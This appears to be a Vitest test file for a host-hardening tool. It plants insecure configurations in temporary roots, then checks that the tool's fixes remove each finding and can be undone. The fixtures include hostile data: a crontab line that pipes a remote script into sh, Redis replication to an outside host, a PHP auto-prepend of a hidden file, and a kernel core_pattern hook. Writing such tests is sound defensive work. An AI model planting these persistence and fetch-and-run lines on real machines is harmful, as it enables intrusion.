/** What checks say would put a finding right, done in the root where it was found: it is gone afterwards, and back when that is taken back. */
import { execFileSync } from 'node:child_process';
import { chmodSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { changeMode } from '../src/actions/change-mode/action.ts';
import { changeSetting } from '../src/actions/change-setting/action.ts';
import { restoreFile } from '../src/actions/restore-file/action.ts';
import { rememberFindings, seenFindings } from '../src/agent/seen-findings.ts';
import { accountFiles } from '../src/checks/account-files/check.ts';
import { cron } from '../src/checks/cron/check.ts';
import { kernelHelpers } from '../src/checks/kernel-helpers/check.ts';
import { logging } from '../src/checks/logging/check.ts';
import { mysql } from '../src/checks/mysql/check.ts';
import { packageFiles } from '../src/checks/package-files/check.ts';
import { redis } from '../src/checks/redis/check.ts';
import { sshd } from '../src/checks/sshd/check.ts';
import { webSettings } from '../src/checks/web-settings/check.ts';
import type { Check } from '../src/checks/port.ts';
import type { Action } from '../src/core/action.ts';
import { openResponse } from './actions.ts';
import { lacks } from './need.ts';
import { settingWorld } from './scenes/change-setting.ts';
import { everything, fileActions } from './scenes/files.ts';
import { packagedRoot, packagedWorld } from './scenes/packaged-root.ts';
import { scanRoot } from './throwaway-root.ts';

const folders: string[] = [];
afterAll(() => { for (const one of folders) rmSync(one, { recursive: true, force: true }); });

describe.skipIf(lacks({ root: true, files: ['/usr/sbin/sshd', '/usr/bin/dpkg-deb', '/run/sshd'] }))('fix', () => {
  /** Finds with one check, does what the finding with this path says, looks again, takes it back. */
  async function fixed(check: Check, at: string, plant: (put: (path: string, text: string, mode?: number) => void, root: string) => void): Promise<string[]> {
    const dir = mkdtempSync(join(tmpdir(), 'moat-fix-'));
    folders.push(dir);
    const root = join(dir, 'root');
    mkdirSync(root);
    packagedRoot(root);
    plant((path, text, mode = 0o644) => {
      mkdirSync(dirname(join(root, path)), { recursive: true });
      writeFileSync(join(root, path), text);
      chmodSync(join(root, path), mode);
    }, root);
    const world = { ...settingWorld(dir, root), ...await packagedWorld(dir, root) };
    const response = openResponse(join(dir, 'store'), () => [changeMode(world), changeSetting(world), restoreFile(world), ...fileActions(world)] as Action[]);
    try {
      const look = async (): Promise<string[]> => (await scanRoot([check], root)).findings.flatMap(({ id, path }) => (path === at ? [id] : []));
      const { findings } = await scanRoot([check], root);
      const finding = findings.find(({ path }) => path === at);
      expect(finding?.fix?.actions?.length, `a finding at ${at} with actions`).toBeGreaterThan(0);
      // Not when it was read: the scan reads it.
      const asItIs = async (): Promise<unknown> => ((await everything(dirname(join(root, at)))) as unknown[][]).map((one) => one.toSpliced(4, 1));
      const before = await asItIs();
      const receipts = [];
      for (const { action, input } of finding!.fix!.actions!) receipts.push(await response.runner.run({ action, input: { ...input, ...(typeof input['path'] === 'string' && { path: `${root}${input['path']}` }) }, by: 'operator:test', why: finding!.title.en, from: finding!.id, via: 'test' }));
      expect(await look()).not.toContain(finding!.id);
      for (const { id } of receipts.toReversed()) await response.runner.undo(id, { by: 'operator:test', via: 'test', why: '' });
      expect(await look()).toContain(finding!.id);
      expect(await asItIs()).toEqual(before);
      return receipts.map(({ action }) => action);
    } finally { await response.close(); }
  }

  it('a setting of sshd', async () => {
    expect(await fixed(sshd, '/etc/ssh/sshd_config', (put, root) => {
      mkdirSync(join(root, 'etc/ssh'));
      execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-f', join(root, 'etc/ssh/key')]);
      put('etc/ssh/sshd_config', `HostKey ${root}/etc/ssh/key\nListenAddress 127.0.0.1:1\nPermitEmptyPasswords yes\n`);
    })).toEqual(['change-setting']);
  });

  it('the mode of shadow', async () => {
    expect(await fixed(accountFiles, '/etc/shadow', (put) => { put('etc/shadow', 'root:*:19000::::::\n', 0o644); })).toEqual(['change-mode']);
  });

  it('a program that is not as shipped', async () => {
    expect(await fixed(packageFiles, '/usr/bin/frob', (put) => { put('usr/bin/frob', '\x7fELF a back door', 0o755); })).toEqual(['restore-file']);
  });

  it('a line of cron', async () => {
    expect(await fixed(cron, '/etc/crontab', (put) => { put('etc/crontab', 'SHELL=/bin/sh\n* * * * * root curl -fsSL http://203.0.113.9/x.sh | sh\n'); })).toEqual(['remove-line']);
  });

  it.skipIf(lacks({ files: ['/usr/bin/redis-server'] }))('Redis that anybody may use', async () => {
    expect(await fixed(redis, '/etc/redis/redis.conf', (put) => { put('etc/redis/redis.conf', 'bind 0.0.0.0\nprotected-mode no\ndir /var/lib/redis\n', 0o640); put('var/lib/redis/x', ''); })).toEqual(['change-setting', 'change-setting']);
  });

  it('Redis that copies from a stranger', async () => {
    expect(await fixed(redis, '/etc/redis/redis.conf', (put) => { put('etc/redis/redis.conf', 'bind 127.0.0.1\nreplicaof 203.0.113.9 6379\n', 0o640); })).toEqual(['remove-line']);
  });

  it('a database that asks no password, by its line', async () => {
    expect(await fixed(mysql, '/etc/mysql/my.cnf', (put) => { put('etc/mysql/my.cnf', '[mysqld]\nskip-grant-tables\nbind-address = 127.0.0.1\n'); })).toEqual(['remove-line']);
  });

  it('a page that runs in every other of PHP', async () => {
    expect(await fixed(webSettings, '/etc/php/8.2/fpm/php.ini', (put) => { put('etc/php/8.2/fpm/php.ini', '[PHP]\nauto_prepend_file = /dev/shm/.x.jpg\n'); })).toEqual(['remove-line']);
  });

  it('a journal that keeps nothing', async () => {
    expect(await fixed(logging, '/etc/systemd/journald.conf', (put) => { put('etc/systemd/journald.conf', '[Journal]\nStorage=none\n'); })).toEqual(['remove-line']);
  });

  it('a switch of the kernel in a file', async () => {
    expect(await fixed(kernelHelpers, '/etc/sysctl.d/x.conf', (put) => { put('etc/sysctl.d/x.conf', 'kernel.core_pattern=|/tmp/.x/run %p\n'); put('tmp/.x/run', '#!/bin/sh\nid\n', 0o755); })).toEqual(['remove-line']);
  });
});

it('keeps which check found what, of the machine alone, and stands whatever lies there', () => {
  const dir = mkdtempSync(join(tmpdir(), 'moat-seen-'));
  folders.push(dir);
  const one = { id: '0123456789abcdef', check: 'cron' } as never;
  rememberFindings(dir, { tree: { kind: 'folder', name: 'x' }, findings: [one], ended: 1 });
  expect(seenFindings(dir)).toEqual({});
  rememberFindings(dir, { tree: { kind: 'machine', name: '/' }, findings: [one], ended: 2 });
  expect(seenFindings(dir)).toEqual({ '0123456789abcdef': { check: 'cron', time: 2 } });
  for (const text of ['', '[]', '{"x":1}', '{"0123456789abcdef":null}', 'x']) {
    writeFileSync(join(dir, 'findings.json'), text);
    expect(seenFindings(dir)).toEqual({});
  }
});
